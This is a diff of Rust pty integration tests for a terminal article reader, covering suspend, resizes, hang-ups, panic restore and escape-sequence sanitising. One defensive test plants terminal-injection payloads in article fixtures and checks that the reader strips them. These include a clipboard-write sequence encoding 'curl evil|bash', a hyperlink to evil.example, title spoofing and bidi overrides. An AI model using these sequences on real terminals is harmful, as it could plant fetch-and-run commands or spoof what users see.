@@ -76,6 +76,18 @@ impl Session {
 
     /// Like `start_in`, with more command-line arguments (`--config FILE`).
     fn start_with(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> Session {
+        let mut command = vec![
+            env!("CARGO_BIN_EXE_gisa").to_owned(),
+            "--articles".to_owned(),
+            dir.display().to_string(),
+        ];
+        command.extend(args.iter().map(|a| (*a).to_owned()));
+        Session::start_argv(&command, dir, env)
+    }
+
+    /// Run the command `argv` in `dir` in a fresh 120x40 pty, with the same environment as the
+    /// reader gets.
+    fn start_argv(argv: &[String], dir: &Path, env: &[(&str, &str)]) -> Session {
         let pty = native_pty_system()
             .openpty(PtySize {
                 rows: ROWS,
@@ -84,10 +96,8 @@ impl Session {
                 pixel_height: 0,
             })
             .unwrap();
-        let mut cmd = CommandBuilder::new(env!("CARGO_BIN_EXE_gisa"));
-        cmd.arg("--articles");
-        cmd.arg(dir);
-        cmd.args(args);
+        let mut cmd = CommandBuilder::new(&argv[0]);
+        cmd.args(&argv[1..]);
         // No config.toml in the temp folder: the built-in config is used.
         cmd.cwd(dir);
         cmd.env("XDG_STATE_HOME", dir.join("state"));
@@ -640,5 +650,276 @@ fn a_c_locale_gets_ascii_borders() {
         }
         s.send("q");
         assert_eq!(s.wait_exit(), 0);
+    }
+}
+
+/// The state letter of process `pid` (`R`, `S`, `T` stopped, `Z` zombie), `None` once it is gone.
+fn process_state(pid: u32) -> Option<char> {
+    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
+    // The command name is in parentheses and may hold spaces: the state follows the last `)`.
+    stat.rsplit_once(')')?.1.trim_start().chars().next()
+}
+
+/// Wait until `ok` holds for the state of `pid`; fail after the deadline.
+fn wait_for_state(pid: u32, what: &str, ok: impl Fn(Option<char>) -> bool) {
+    let deadline = Instant::now() + timeout();
+    while !ok(process_state(pid)) {
+        assert!(
+            Instant::now() < deadline,
+            "timed out waiting for {what}: state {:?}",
+            process_state(pid)
+        );
+        thread::sleep(Duration::from_millis(20));
+    }
+}
+
+/// Ctrl-Z (a key in raw mode) gives the terminal back and stops the reader; continued (`fg`),
+/// it takes the screen again and redraws it whole.
+#[test]
+fn ctrl_z_suspends_and_continuing_redraws() {
+    let mut s = started(&[]);
+    s.send("\x1a");
+    s.wait_until("the terminal given back", |screen| {
+        !screen.alternate_screen() && !screen.hide_cursor()
+    });
+    let pid = s.pid();
+    wait_for_state(pid, "the reader stopped", |st| st == Some('T'));
+    let status = std::process::Command::new("kill")
+        .args(["-CONT", &pid.to_string()])
+        .status()
+        .unwrap();
+    assert!(status.success());
+    s.wait_until("the reader back and drawn", |screen| {
+        screen.alternate_screen() && screen.contents().contains("1 of 2 articles")
+    });
+    s.send("j");
+    s.wait_until("keys work again", |screen| {
+        selected_row(screen).is_some_and(|r| r.contains("Beta"))
+    });
+    s.send("q");
+    assert_eq!(s.wait_exit(), 0);
+}
+
+/// Hundreds of resizes as fast as the pty takes them, down to 1x1 and up to 500x200: no panic,
+/// and the screen ends at the last size with everything in place.
+#[test]
+fn a_resize_storm_never_panics_and_the_last_size_wins() {
+    let mut s = started(&[]);
+    let sizes: [(u16, u16); 8] = [
+        (1, 1),
+        (200, 500),
+        (6, 30),
+        (2, 3),
+        (24, 80),
+        (12, 40),
+        (100, 1),
+        (1, 100),
+    ];
+    for i in 0..400 {
+        let (rows, cols) = sizes[i % sizes.len()];
+        s.resize(rows, cols);
+    }
+    s.resize(24, 80);
+    s.wait_until("the 80x24 layout", |screen| {
+        let rows: Vec<String> = screen.rows(0, 80).collect();
+        rows.len() == 24 && rows[23].contains("1 of 2 articles")
+    });
+    assert!(s.is_running(), "the reader survived the storm");
+    s.send("q");
+    assert_eq!(s.wait_exit(), 0);
+}
+
+/// The hang-up reaches the reader even when no SIGHUP does: here it runs in a session of its
+/// own (setsid), so the terminal is not its controlling terminal and the kernel signals only
+/// the session leader. The watcher blocked in poll(2) sees POLLHUP and the reader leaves.
+#[test]
+fn a_hang_up_without_sighup_ends_the_reader() {
+    let dir = tempfile::tempdir().unwrap();
+    write_articles(dir.path());
+    let argv: Vec<String> = [
+        "setsid",
+        "-w",
+        env!("CARGO_BIN_EXE_gisa"),
+        "--articles",
+        &dir.path().display().to_string(),
+    ]
+    .iter()
+    .map(|a| (*a).to_owned())
+    .collect();
+    let mut s = Session::start_argv(&argv, dir.path(), &[]);
+    s.wait_for_text("1 of 2 articles");
+    // setsid forks (it was started as a session leader); the reader is its child.
+    let leader = s.pid();
+    let reader = std::fs::read_dir("/proc")
+        .unwrap()
+        .filter_map(|e| e.ok()?.file_name().to_str()?.parse::<u32>().ok())
+        .find(|pid| {
+            std::fs::read_to_string(format!("/proc/{pid}/stat"))
+                .ok()
+                .and_then(|st| {
+                    let ppid = st.rsplit_once(')')?.1.split_whitespace().nth(1)?;
+                    ppid.parse::<u32>().ok()
+                })
+                == Some(leader)
+        })
+        .expect("the reader under setsid");
+    s.stop_reading.store(true, Ordering::SeqCst);
+    s.send("j");
+    if let Some(output) = s.output.take() {
+        output.join().unwrap();
+    }
+    drop(s.writer.take());
+    drop(s.master.take());
+    let started = Instant::now();
+    wait_for_state(reader, "the reader to end", |st| {
+        st.is_none() || st == Some('Z')
+    });
+    eprintln!("hang-up without SIGHUP: gone after {:?}", started.elapsed());
+}
+
+/// The path of example `name`, built by `cargo test` beside the test binaries.
+fn example(name: &str) -> String {
+    let exe = std::env::current_exe().unwrap();
+    let path = exe
+        .parent()
+        .and_then(Path::parent)
+        .unwrap()
+        .join("examples")
+        .join(name);
+    assert!(
+        path.exists(),
+        "{} is missing: run the whole `cargo test`, which builds the examples",
+        path.display()
+    );
+    path.display().to_string()
+}
+
+/// A panic restores the terminal first (raw mode off, alternate screen left, cursor shown, mouse
+/// capture off, keyboard flags popped) and the report is printed after it, readable: each of its
+/// lines starts at the left edge, which a terminal still in raw mode would not do.
+#[test]
+fn a_panic_restores_the_terminal_before_the_report() {
+    let dir = tempfile::tempdir().unwrap();
+    let argv = [example("panic_probe")];
+    let mut s = Session::start_argv(&argv, dir.path(), &[("RUST_BACKTRACE", "0")]);
+    assert_eq!(s.wait_exit(), 101, "a panic exits 101");
+    s.wait_until("the report on the normal screen", |screen| {
+        !screen.alternate_screen()
+            && !screen.hide_cursor()
+            && screen.contents().contains("second line of the report")
+    });
+    let screen = s.screen_text();
+    for text in [
+        "deliberate panic to test the restore",
+        "second line of the report",
+    ] {
+        let line = screen.lines().find(|l| l.contains(text)).unwrap();
+        assert!(line.starts_with(text), "{line:?} in:\n{screen}");
+    }
+    let raw = s.raw_text();
+    let last_on = raw.rfind("\x1b[?1000h").expect("mouse capture was on");
+    assert!(
+        raw.rfind("\x1b[?1000l") > Some(last_on),
+        "mouse capture off"
+    );
+    assert!(
+        raw.rfind("\x1b[<1u") > raw.rfind("\x1b[>1u"),
+        "keyboard flags popped"
+    );
+}
+
+/// Articles and a file name full of escape sequences, C1 controls and bidi overrides, shown in
+/// every pane and overlay: the bytes the reader writes hold only its own sequences (cursor
+/// moves, colours, the screen and cursor modes, the keyboard flags), never one from a file.
+#[test]
+fn hostile_articles_never_put_a_foreign_sequence_on_the_terminal() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("001_osc.txt"),
+        "Summit \x1b]0;pwned-title\x07opens \x1b]52;c;Y3VybCBldmlsfGJhc2gK\x07in Seoul\n\n\
+         SEOUL (Reuters) - Leaders \x1b[2J\x1b[Hmet \x1b[6non \x1bPq#0;2;0;0;0\x1b\\Monday \
+         \x1b_apc-payload\x1b\\in \x1b^pm-payload\x1b\\Seoul \x1bXsos-payload\x1b\\and \
+         \u{9b}31mtalked \u{9d}0;c1-title\u{7}about \u{202e}trade\u{202c} and \
+         \x1b]8;;http://evil.example/\x07ties\x1b]8;;\x07 \x1bc\x07\x08 today.\n\n\
+         Kishida \x1b[31mmet\x1b[0m Yoon Suk Yeol.\n",
+    )
+    .unwrap();
+    std::fs::write(
+        dir.path()
+            .join("002_\x1b[31mred\x1b]0;name-title\x07\u{202e}.txt"),
+        "Talks end in Tokyo\n\nTOKYO (AP) - The talks ended on Friday.\n",
+    )
+    .unwrap();
+    std::fs::write(dir.path().join("003_binary.txt"), b"\x1b]0;bin\x07\0\0").unwrap();
+    let mut s = Session::start_in(dir.path(), &[]);
+    s.wait_for_text("of 2 articles");
+    for keys in [
+        "j", "k", "\r", "\t", "j", "j", "j", "\r", "!", "\x1b", "?", "\x1b", "t", "\x1b", "y",
+        "\x1b", "o", "\x1b", "s",
+    ] {
+        s.send(keys);
+        thread::sleep(Duration::from_millis(30));
+    }
+    s.wait_for_text("Kishida");
+    s.send("q");
+    assert_eq!(s.wait_exit(), 0);
+    let raw = s.raw_text();
+    for payload in [
+        "pwned",
+        "Y3VybCBldmlsfGJhc2gK",
+        "evil.example",
+        "apc-payload",
+        "pm-payload",
+        "sos-payload",
+        "c1-title",
+        "name-title",
+        "\x1b]",
+        "\x1bP",
+        "\x1b_",
+        "\x1b^",
+        "\x1bX",
+        "\x1bc",
+        "\x1b[6n",
+        "\x1b[2J\x1b[H",
+        "\u{202e}",
+        "\u{7}",
+        "\u{8}",
+    ] {
+        assert!(!raw.contains(payload), "{payload:?} reached the terminal");
+    }
+    assert!(
+        !raw.chars().any(|c| ('\u{80}'..='\u{9f}').contains(&c)),
+        "a C1 control reached the terminal"
+    );
+    // Every escape sequence is one of the reader's own CSIs.
+    let mut seen = std::collections::BTreeSet::new();
+    let mut rest = raw.as_str();
+    while let Some(at) = rest.find('\x1b') {
+        rest = &rest[at + 1..];
+        assert!(
+            rest.starts_with('['),
+            "a non-CSI escape: {:?}",
+            &rest[..rest.len().min(20)]
+        );
+        let body = &rest[1..];
+        let end = body
+            .find(|c: char| !(c.is_ascii_digit() || matches!(c, ';' | '?' | '<' | '>' | ':')))
+            .unwrap();
+        let final_byte = body[end..].chars().next().unwrap();
+        assert!(
+            "HmJKhlu".contains(final_byte),
+            "unexpected CSI final {final_byte:?} in {:?}",
+            &body[..(end + 1).min(body.len())]
+        );
+        if matches!(final_byte, 'h' | 'l') {
+            seen.insert(body[..=end].to_owned());
+        }
+        rest = &body[end..];
+    }
+    for mode in &seen {
+        assert!(
+            ["?1049h", "?1049l", "?25h", "?25l"].contains(&mode.as_str()),
+            "unexpected mode {mode:?}"
+        );
     }
 }
